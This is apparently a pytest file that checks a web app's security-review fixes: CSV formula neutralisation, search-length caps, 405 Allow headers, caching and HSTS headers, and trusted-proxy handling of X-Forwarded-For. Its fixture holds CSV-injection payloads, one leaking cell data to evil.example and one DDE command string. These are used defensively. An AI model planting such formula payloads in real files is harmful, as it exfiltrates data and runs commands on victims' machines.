"""The review's smaller findings (issue 10, item 10): spreadsheet formulas in exports, an
unbounded search text, 405 without Allow, caching of private answers, HSTS and
Permissions-Policy, and X-Forwarded-For believed from anyone on 127.0.0.1."""

from __future__ import annotations

import contextlib
import csv
import io
import os
import subprocess
import sys
import time
from pathlib import Path

import httpx
from fastapi.testclient import TestClient
from sqlalchemy import create_engine, select
from sqlalchemy.orm import Session

from tests.builders import make_expert, make_hub, make_user
from tests.livesrv import free_port
from tests.web.helpers import bearer, login
from vstid.accounts.models import Role, User
from vstid.audit.models import AuditEntry
from vstid.core.db import Database
from vstid.core.settings import Settings
from vstid.imports.formats import parse
from vstid.web.app import create_app

FORMULAS = {
    "headline": '=HYPERLINK("http://evil.example/?leak="&A2,"Click")',
    "affiliation": "@SUM(1+1)*cmd|' /C calc'!A0",
    "bio": "+1 then text",
    "email": "-1@example.org",
}


def test_csv_export_neutralises_formulas_and_imports_back_unchanged(
    client: TestClient, session: Session
) -> None:
    hub = make_hub(session, code="JPX")
    make_expert(session, hub, slug="evil", display_name="\tTab Name", **FORMULAS)
    make_expert(session, hub, slug="plain", display_name="Lê Thị Hoa", headline="Pin mặt trời")
    coordinator = make_user(session, Role.coordinator)
    session.commit()
    response = client.get(
        "/api/v1/experts/export",
        params={"hub": "JPX", "format": "csv"},
        headers=bearer(client, coordinator.email),
    )
    rows = {r["id"]: r for r in csv.DictReader(io.StringIO(response.text))}
    evil = rows["evil"]
    assert evil["headline"] == "'" + FORMULAS["headline"]
    assert evil["affiliation"].startswith("'@") and evil["bio"].startswith("'+")
    assert evil["email"].startswith("'-") and evil["name"] == "'\tTab Name"
    assert rows["plain"]["headline"] == "Pin mặt trời"  # nothing else changes
    (back,) = [p for p in parse("x.csv", response.content) if getattr(p, "source_id", "") == "evil"]
    assert back.headline == FORMULAS["headline"] and back.affiliation == FORMULAS["affiliation"]
    assert back.bio == FORMULAS["bio"] and back.email == FORMULAS["email"]


def test_expert_search_text_is_capped_with_a_translated_422(client: TestClient) -> None:
    ok = client.get("/api/v1/experts", params={"q": "x" * 200})
    assert ok.status_code == 200
    api = client.get("/api/v1/experts", params={"q": "x" * 201}, headers={"Accept-Language": "ja"})
    assert api.status_code == 422 and api.json()["field"] == "q"
    assert api.json()["message"] == "qは200文字以内で入力してください。"
    page = client.get("/experts", params={"q": "x" * 5000})
    assert page.status_code == 422 and "q chỉ được có tối đa 200 ký tự." in page.text


def test_405_names_every_allowed_method(client: TestClient) -> None:
    api = client.delete("/api/v1/orders")
    assert api.status_code == 405 and api.headers["allow"] == "GET, HEAD, POST"
    assert api.json()["error"] == "http_error"
    page = client.put("/login")
    assert page.status_code == 405 and page.headers["allow"] == "GET, HEAD, POST"


def test_private_answers_are_not_stored_and_policy_headers_are_sent(
    client: TestClient, session: Session
) -> None:
    make_hub(session, is_pilot=True)
    user = make_user(session, Role.expert)
    session.commit()
    api = client.get("/api/v1/auth/me", headers=bearer(client, user.email))
    assert api.headers["cache-control"] == "no-store"
    anonymous = client.get("/")
    assert "cache-control" not in anonymous.headers
    assert "camera=()" in anonymous.headers["permissions-policy"]
    assert "strict-transport-security" not in anonymous.headers  # plain http
    login(client, user.email)
    for path in ("/", "/profile", "/notifications"):
        assert client.get(path).headers["cache-control"] == "no-store", path
    assert "no-store" not in client.get("/static/css/app.css").headers.get("cache-control", "")


def test_hsts_is_sent_over_https(settings: Settings, database: Database) -> None:
    app = create_app(settings, database)
    with TestClient(app, base_url="https://testserver") as client:
        hsts = client.get("/").headers["strict-transport-security"]
    assert hsts == "max-age=31536000; includeSubDomains"


def _registered_from(client: TestClient, session: Session, email: str) -> str | None:
    body = {"email": email, "display_name": "Phạm Thu", "password": "violet comet harbour 42"}
    response = client.post(
        "/api/v1/auth/register", json=body, headers={"X-Forwarded-For": "203.0.113.7"}
    )
    assert response.status_code == 202, response.text
    user_id = str(session.scalars(select(User.id).where(User.email == email)).one())
    entry = session.scalars(select(AuditEntry).where(AuditEntry.action == "user.create")).all()
    return next(e.ip for e in entry if str(e.entity_id) == user_id)


def test_forwarded_for_is_believed_only_from_configured_proxies(
    settings: Settings, database: Database, session: Session
) -> None:
    with TestClient(create_app(settings, database)) as client:
        assert _registered_from(client, session, "p1@example.org") == "testclient"
    trusting = settings.model_copy(update={"trusted_proxies": "10.0.0.0/8, testclient"})
    with TestClient(create_app(trusting, database)) as client:
        assert _registered_from(client, session, "p2@example.org") == "203.0.113.7"


def test_vstid_serve_does_not_believe_forwarded_for_from_loopback(tmp_path: Path) -> None:
    """uvicorn's default believes X-Forwarded-For from 127.0.0.1, so any local process (or a
    proxy that passes the header through) could name its address; `vstid serve` does not."""
    env = {**os.environ, "VSTID_DATA_DIR": str(tmp_path), "VSTID_ENV": "test",
           "VSTID_WORKER_IN_PROCESS": "false", "VSTID_EMBEDDER": "hashing"}  # fmt: skip
    cli = [sys.executable, "-m", "vstid.cli"]
    subprocess.run([*cli, "db", "upgrade"], env=env, check=True, capture_output=True)
    port = free_port()
    server = subprocess.Popen(
        [*cli, "serve", "--port", str(port)], env=env,
        stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL,
    )  # fmt: skip
    try:
        base = f"http://127.0.0.1:{port}"
        deadline = time.monotonic() + 60
        while time.monotonic() < deadline:
            with contextlib.suppress(httpx.TransportError):
                if httpx.get(f"{base}/api/v1/hubs").status_code == 200:
                    break
            time.sleep(0.2)
        body = {
            "email": "live@example.org",
            "display_name": "Võ Live",
            "password": "violet comet harbour 42",
        }
        created = httpx.post(
            f"{base}/api/v1/auth/register", json=body, headers={"X-Forwarded-For": "203.0.113.7"}
        )
        assert created.status_code == 202, created.text
    finally:
        server.terminate()
        server.wait(20)
    engine = create_engine(f"sqlite:///{tmp_path / 'vstid.db'}")
    with engine.connect() as conn:
        ips = conn.scalars(select(AuditEntry.ip).where(AuditEntry.action == "user.create")).all()
    engine.dispose()
    assert ips == ["127.0.0.1"]
